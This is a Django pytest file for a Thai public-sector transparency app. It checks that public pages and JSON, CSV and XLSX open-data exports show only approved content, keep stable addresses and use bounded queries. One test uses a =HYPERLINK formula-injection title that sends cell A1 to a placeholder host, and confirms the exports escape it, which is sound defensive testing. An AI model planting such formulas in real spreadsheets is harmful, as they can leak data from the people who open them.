"""Public pages and open data: published content only, the same in every format, at stable
addresses, with query counts that do not grow with the data."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from measures.models import Measure, Progress
from measures.services import evidence_add, measure_save, round_reopen, standard_rounds
from organisations.models import User

from ..factories import (
    approve_round,
    make_measure,
    make_user,
)
from ..pages import count_queries
from ..reports_helpers import get_document

pytestmark = pytest.mark.django_db
Y = {"org": "org-a", "year": 2569}


@pytest.fixture
def published(org_a):
    """Org A's 2569: two measures; the 6-month round published, the 12-month one not."""
    org_a.eit_survey_url = "https://itas.nacc.go.th/go/eit/org-a"
    org_a.save()
    six, twelve = standard_rounds(organisation=org_a, fiscal_year=2569)
    first = make_measure(org_a, 2569, 1, title="มาตรการเปิดเผยข้อมูล")
    second = make_measure(org_a, 2569, 2, title="กิจกรรมประชุม")
    p = Progress.objects.create(measure=first, round=six, status="done", summary="เผยแพร่แล้ว")
    evidence_add(progress=p, upload=SimpleUploadedFile("a.pdf", b"%PDF-1.4 x"))
    Progress.objects.create(measure=second, round=six, status="in_progress", summary="กำลังทำ")
    Progress.objects.create(measure=first, round=twelve, status="done", summary="ข้อความที่ยังไม่เผยแพร่")
    staff = make_user("staff-published", member_of=[(org_a, "staff")])
    six = approve_round(six, submitter=staff, publish=True)
    return six, twelve, first, second


def formats(client):
    data = json.loads(client.get(reverse("public-data", kwargs={**Y, "fmt": "json"})).content)
    text = client.get(reverse("public-data", kwargs={**Y, "fmt": "csv"})).content.decode(
        "utf-8-sig"
    )
    rows_csv = list(csv.DictReader(io.StringIO(text)))
    wb = load_workbook(
        io.BytesIO(client.get(reverse("public-data", kwargs={**Y, "fmt": "xlsx"})).content)
    )
    ws = wb.active
    header = [c.value for c in ws[1]]
    rows_xlsx = [
        dict(zip(header, [c.value for c in row], strict=True)) for row in ws.iter_rows(min_row=2)
    ]
    return data, rows_csv, rows_xlsx


def test_public_page_shows_published_content_only(client, published):
    six, twelve, first, second = published
    page = client.get(reverse("public-year", kwargs=Y))
    assert page.status_code == 200
    html = page.content.decode()
    assert "มาตรการเปิดเผยข้อมูล" in html and "เผยแพร่แล้ว" in html and "กำลังทำ" in html
    assert "ข้อความที่ยังไม่เผยแพร่" not in html and "รอบ ๑๒ เดือน" not in html
    assert "<svg" in html and "คิวอาร์โค้ดแบบวัด EIT" in html  # the QR code, labelled
    assert 'name="viewport"' in html and 'lang="th"' in html


def test_open_data_is_the_same_content_in_every_format(client, published):
    data, rows_csv, rows_xlsx = formats(client)
    rows = data["rows"]
    assert [(r["number"], r["round"], r["status"]) for r in rows] == [
        (1, "รอบ ๖ เดือน", "done"),
        (2, "รอบ ๖ เดือน", "in_progress"),
    ]
    assert all("ข้อความที่ยังไม่เผยแพร่" not in json.dumps(r, ensure_ascii=False) for r in rows)
    assert rows[0]["evidence"][0].startswith("http://testserver/public/evidence/")
    for flat in (rows_csv, rows_xlsx):
        assert len(flat) == len(rows)
        for row, other in zip(rows, flat, strict=True):
            for field in data["fields"]:
                expected = row[field]
                expected = "\n".join(expected) if isinstance(expected, list) else expected
                assert str(other[field] if other[field] is not None else "") == str(expected), field
    evidence = client.get(rows[0]["evidence"][0].replace("http://testserver", ""))
    assert evidence.status_code == 200


def test_open_data_cells_are_never_formulas(client, published):
    """A title such as =HYPERLINK(…) is data: escaped in the CSV (a leading apostrophe, as
    spreadsheets expect), a quote-prefixed text cell in the XLSX, unchanged in JSON."""
    six, _twelve, first, second = published
    title = '=HYPERLINK("https://example.invalid/?"&A1,"คลิก")'
    with scopes_disabled():
        Measure.objects.filter(pk=first.pk).update(title=title)
    staff = User.objects.get(username="staff-published")
    six = round_reopen(progress_round=six, user=staff)  # in a new version, approved again
    with scopes_disabled():
        Progress.objects.filter(measure=second, round=six).update(summary="-ยังไม่เสร็จ")
    approve_round(six, submitter=staff)
    data, rows_csv, _rows = formats(client)
    assert data["rows"][0]["title"] == title
    assert rows_csv[0]["title"] == "'" + title
    assert rows_csv[1]["summary"] == "'-ยังไม่เสร็จ"
    wb = load_workbook(
        io.BytesIO(client.get(reverse("public-data", kwargs={**Y, "fmt": "xlsx"})).content)
    )
    cell = wb.active.cell(2, [c.value for c in wb.active[1]].index("title") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)


def test_addresses_stay_the_same_when_titles_change(client, published):
    six, _twelve, first, _second = published
    urls = [
        reverse("public-year", kwargs=Y),
        reverse("public-data", kwargs={**Y, "fmt": "json"}),
        reverse("public-report", kwargs={**Y, "pk": six.pk, "code": "r3"}),
    ]
    first.title = "มาตรการเปิดเผยข้อมูล (ชื่อใหม่)"
    measure_save(measure=first, steps=["ขั้นแรก"], expected_version=first.version)
    for url in urls:
        assert get_document(client, url).status_code == 200
    # the public sees the approved version until a new version is approved
    assert "ชื่อใหม่" not in client.get(urls[0]).content.decode()
    staff = User.objects.get(username="staff-published")
    six = round_reopen(progress_round=six, user=staff)
    approve_round(six, submitter=staff)
    for url in urls:
        assert get_document(client, url).status_code == 200
    assert "ชื่อใหม่" in client.get(urls[0]).content.decode()


def test_nothing_unpublished_is_public(client, org_a, org_b):
    make_measure(org_b, 2569, title="ของหน่วยงานบี")
    standard_rounds(organisation=org_b, fiscal_year=2569)
    for fmt in ("json", "csv", "xlsx"):
        assert (
            client.get(
                reverse("public-data", kwargs={"org": "org-b", "year": 2569, "fmt": fmt})
            ).status_code
            == 404
        )
    assert (
        client.get(reverse("public-year", kwargs={"org": "org-b", "year": 2569})).status_code == 404
    )


def test_framework_is_published_as_data(client):
    data = json.loads(client.get(reverse("public-framework", kwargs={"year": 2566})).content)
    assert data["fiscal_year"] == 2566 and len(data["oit_items"]) == 43


def test_public_page_queries_do_not_grow_with_measures(
    client, published, django_assert_max_num_queries
):
    six = published[0]
    url = reverse("public-year", kwargs=Y)
    few, _ = count_queries(client, url, django_assert_max_num_queries, 20)
    org = six.organisation
    for n in range(3, 30):
        Progress.objects.create(measure=make_measure(org, 2569, n), round=six, status="done")
    many, _ = count_queries(client, url, django_assert_max_num_queries, 20)
    assert many == few
